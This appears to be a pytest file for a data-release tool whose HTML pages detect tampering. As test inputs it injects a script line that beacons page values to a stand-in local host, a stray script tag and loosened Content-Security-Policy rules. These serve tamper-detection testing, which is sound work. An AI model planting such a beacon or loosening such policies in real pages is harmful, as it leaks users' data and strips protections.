"""A page of ours is told from one that was changed, and a publication says who made it."""

import json
import re

import pytest
from released_kinds import released

import verikit as vk
from verikit.cli import main
from verikit.errors import FormatError

RELEASE = vk.published("dm_table1_masked")
SPY = 'new Image().src="http://127.0.0.1:9911/?"+value;'
OFFICE = {
    "title": "People, 2026", "publisher": "An office", "contact": "privacy@office.example",
    "year": "2026", "people": "all who live in X", "licence": "CC0-1.0", "law": "GDPR, article 21",
}  # fmt: skip


@pytest.fixture(scope="module")
def page():
    return vk.page.html(RELEASE)


def verified(text, tmp_path, release=RELEASE):
    (tmp_path / "check.html").write_text(text, encoding="utf-8")
    return {
        name for name, same in vk.page.verify(tmp_path / "check.html", release).items() if not same
    }


@pytest.mark.parametrize(
    ("old", "new", "parts"),
    [
        ("", "", set()),
        ('"use strict";', f'"use strict";{SPY}', {"program", "policy", "values"}),
        ("form-action 'none'", "form-action *", {"policy", "values"}),
        ("<footer", "<script>spy()</script><footer", None),
        ('id="values">', 'id="values">AAAA', {"values"}),
        ("<title>", "<title>Another ", {"frame", "values"}),
        (":root {", "body{}:root {", {"style", "policy", "values"}),
    ],
)
def test_what_was_changed_in_a_page_is_named(old, new, parts, page, tmp_path):
    text = page.replace(old, new, 1) if old else page
    if parts is None:
        with pytest.raises(FormatError, match="no page of this verikit"):
            verified(text, tmp_path)
    else:
        found = verified(text, tmp_path)
        assert found == parts if not parts else parts - {"policy"} <= found


def test_a_page_of_another_table_has_other_values(page, tmp_path):
    assert verified(page, tmp_path, vk.published("ks_table4")) == {"values"}
    assert verified(page, tmp_path, None) == set()


def test_a_table_is_compared_by_what_lies_beside_it(tmp_path, capsys):
    release = vk.published("people_masked")
    folder = release.save(tmp_path / "release", page=True)
    page = str(folder / "check.html")
    assert main(["verify", page, "--against", str(folder / "table.csv")]) == 0
    alone = (tmp_path / "alone.csv").write_bytes((folder / "table.csv").read_bytes())
    assert alone > 100
    other = (folder / "table.csv").read_text(encoding="utf-8").replace("2400", "2500", 1)
    bare = vk.open_release(tmp_path / "alone.csv")
    vk.page.write(bare, tmp_path / "bare.html")
    assert main(["verify", str(tmp_path / "bare.html"), "--against", f"{tmp_path}/alone.csv"]) == 0
    (tmp_path / "alone.csv").write_text(other, encoding="utf-8")
    assert main(["verify", str(tmp_path / "bare.html"), "--against", f"{tmp_path}/alone.csv"]) == 1
    assert "values: NOT OURS" in capsys.readouterr().out


@pytest.mark.parametrize("kind", ["masked", "generalized", "drawn"])
def test_a_table_alone_is_compared_cell_by_cell(kind, tmp_path, capsys):
    release, _ = released(kind, records=60)
    folder = release.save(tmp_path / "release", page=True)
    page, alone = str(folder / "check.html"), tmp_path / "alone.csv"
    head, *rows = (folder / "table.csv").read_text(encoding="utf-8").splitlines()
    last = "90" if kind == "masked" else "Nobody"

    def compared(*lines):
        alone.write_text("\n".join([head, *lines]) + "\n", encoding="utf-8")
        code = main(["verify", page, "--against", str(alone)])
        out = capsys.readouterr().out
        assert f"compared with {len(lines)} rows of the table, in any order" in out
        return code, "cells: NOT OURS" in out

    assert compared(*rows) == compared(*rows[::-1]) == (0, False)
    assert compared(*rows[1:]) == compared(*rows, rows[0]) == (1, True)
    assert compared(*rows[1:], rows[1]) == (1, True)
    start, _, _ = rows[0].rpartition(",")
    assert compared(f"{start},{last}", *rows[1:]) == (1, True)


def test_of_two_tables_one_alone_is_not_compared(tmp_path, capsys):
    folder = released("split", records=60)[0].save(tmp_path / "release", page=True)
    (tmp_path / "alone.csv").write_bytes((folder / "quasi.csv").read_bytes())
    page = str(folder / "check.html")
    assert main(["verify", page, "--against", str(tmp_path / "alone.csv")]) == 2
    assert "The table alone does not tell how it was made" in capsys.readouterr().err


def test_a_page_that_says_it_holds_more_than_it_does_is_refused(tmp_path):
    text = vk.page.html(released("masked", records=60)[0])
    fewer = text.replace("[60,1,null]", "[59,1,null]", 1)
    assert fewer != text
    (tmp_path / "check.html").write_text(fewer, encoding="utf-8")
    released("masked", records=60)[0].frame.to_csv(tmp_path / "alone.csv", index=False)
    with pytest.raises(FormatError, match="as many values as it says"):
        vk.page.verify(tmp_path / "check.html", vk.open_release(tmp_path / "alone.csv"))


def test_the_program_of_a_page_depends_on_the_version_alone():
    names = ("dm_table1_masked", "ks_table4", "lhcc_table4", "people_masked")
    pages = [vk.page.html(vk.published(name), title=name) for name in names]
    pages.append(vk.page.html(vk.published("ks_table4").describing(**OFFICE), language="de"))
    programs = {re.search(r"<script>(.*?)</script>", page, re.DOTALL)[1] for page in pages}
    policies = {
        re.search(r"Content-Security-Policy\" content=\"([^\"]*)", page)[1] for page in pages
    }
    assert (len(programs), len(policies)) == (1, 1)
    assert len(programs.pop()) > 50_000


def test_the_command_exits_with_one_where_a_page_is_not_ours(page, tmp_path, capsys):
    path = tmp_path / "check.html"
    path.write_text(page, encoding="utf-8")
    assert main(["verify", str(path), "--against", "dm_table1_masked"]) == 0
    assert "values: ours" in capsys.readouterr().out
    path.write_text(page.replace("default-src 'none'", "default-src *"), encoding="utf-8")
    assert main(["verify", str(path)]) == 1
    out = capsys.readouterr().out
    assert "policy: NOT OURS" in out
    assert "values: not compared" in out


def test_who_published_what_about_whom_reaches_every_face(tmp_path):
    release = vk.published("lhcc_table4").describing(**OFFICE)
    release.save(tmp_path / "release", page=True)
    package = json.loads((tmp_path / "release" / "datapackage.json").read_text(encoding="utf-8"))
    assert package["title"] == OFFICE["title"]
    assert package["contributors"][0]["email"] == OFFICE["contact"]
    assert package["licenses"] == [{"name": "CC0-1.0"}]
    opened = vk.open_release(tmp_path / "release")
    assert opened.about == OFFICE
    page = (tmp_path / "release" / "check.html").read_text(encoding="utf-8")
    assert page.count(OFFICE["title"]) >= 3
    assert OFFICE["contact"] in page
    report = vk.check({"Age": 65, "Sex": "M"}, opened)
    said = dict(report.parts)
    assert said["whom"] == "Write to An office, privacy@office.example."
    assert "GDPR, article 21" in said["letter"]
    assert not re.search(r"\b65\b", said["letter"]), "her values stay with her"
    slip = report.to_html()
    assert all(OFFICE[name] in slip for name in ("title", "publisher", "contact", "people"))


def test_a_name_that_no_publication_has_is_refused():
    with pytest.raises(vk.VerikitError, match="editor"):
        RELEASE.describing(editor="me")
